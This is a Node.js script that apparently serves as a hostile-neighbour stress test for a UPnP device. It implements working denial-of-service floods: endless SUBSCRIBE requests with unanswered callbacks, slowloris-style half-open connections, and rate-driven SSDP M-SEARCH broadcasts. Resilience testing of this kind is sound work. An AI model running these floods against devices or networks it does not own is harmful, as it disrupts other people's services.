// A neighbour that means harm, from an address of its own, with as much as it can: flood.mjs <own address> <device address> <port> <what>
// what: "subscribe <count>", "half-open <count> <seconds>" or "search <per second> <seconds>"; says what came of it in a line of JSON.
import { createSocket } from "node:dgram"
import { Agent, createServer, request } from "node:http"
import { connect } from "node:net"

const [localAddress, host, port, what, ...numbers] = process.argv.slice(2)
const [count, seconds] = numbers.map(Number)
const pause = (ms) => new Promise((done) => setTimeout(done, ms))
const CONNECTIONS = 32
const TICK_MS = 5

/** Subscribes again and again, each time for another callback, where nobody ever answers. */
async function subscribe() {
  const mute = createServer(() => {})
  await new Promise((done) => mute.listen(0, localAddress, done))
  const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS })
  const statuses = {}
  let next = 0
  const ask = (number) =>
    new Promise((done) => {
      const callback = `<http://${localAddress}:${mute.address().port}/${number}>`
      const headers = { callback, nt: "upnp:event", timeout: "Second-1800", "content-length": 0 }
      const options = { host, port, path: "/upnp/presence/event", method: "SUBSCRIBE", headers, agent, localAddress }
      const note = (word) => {
        statuses[word] = (statuses[word] ?? 0) + 1
        done()
      }
      const asked = request(options, (answer) => answer.resume().on("end", () => note(answer.statusCode)))
      asked.on("error", () => note("error")).end()
    })
  const one = async () => {
    while (next < count) await ask(next++)
  }
  await Promise.all(Array.from({ length: CONNECTIONS }, one))
  return statuses
}

/** Begins requests and leaves them so; those that are let go are begun again. */
async function halfOpen() {
  let isOver = false
  let opened = 0
  const open = () => {
    const socket = connect({ host, port, localAddress }, () => socket.write("POST /upnp/presence/control HTTP/1.1\r\nHO"))
    opened += 1
    socket.on("error", () => {}).on("close", () => !isOver && setTimeout(open, 100))
  }
  for (let number = 0; number < count; number++) open()
  await pause(seconds * 1000)
  isOver = true
  return { opened }
}

/** Searches for all there is, evenly. */
async function search() {
  const socket = createSocket("udp4")
  let [sent, answers] = [0, 0]
  socket.on("message", () => answers++)
  await new Promise((done) => socket.bind(0, localAddress, done))
  const text = 'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n'
  const begun = performance.now()
  while (performance.now() - begun < seconds * 1000) {
    const due = ((performance.now() - begun) * count) / 1000
    for (; sent < due; sent++) socket.send(text, 1900, host)
    await pause(TICK_MS)
  }
  await pause(1500)
  return { sent, answers }
}

const result = await { subscribe, "half-open": halfOpen, search }[what]()
process.stdout.write(`${JSON.stringify(result)}\n`)
process.exit(0)
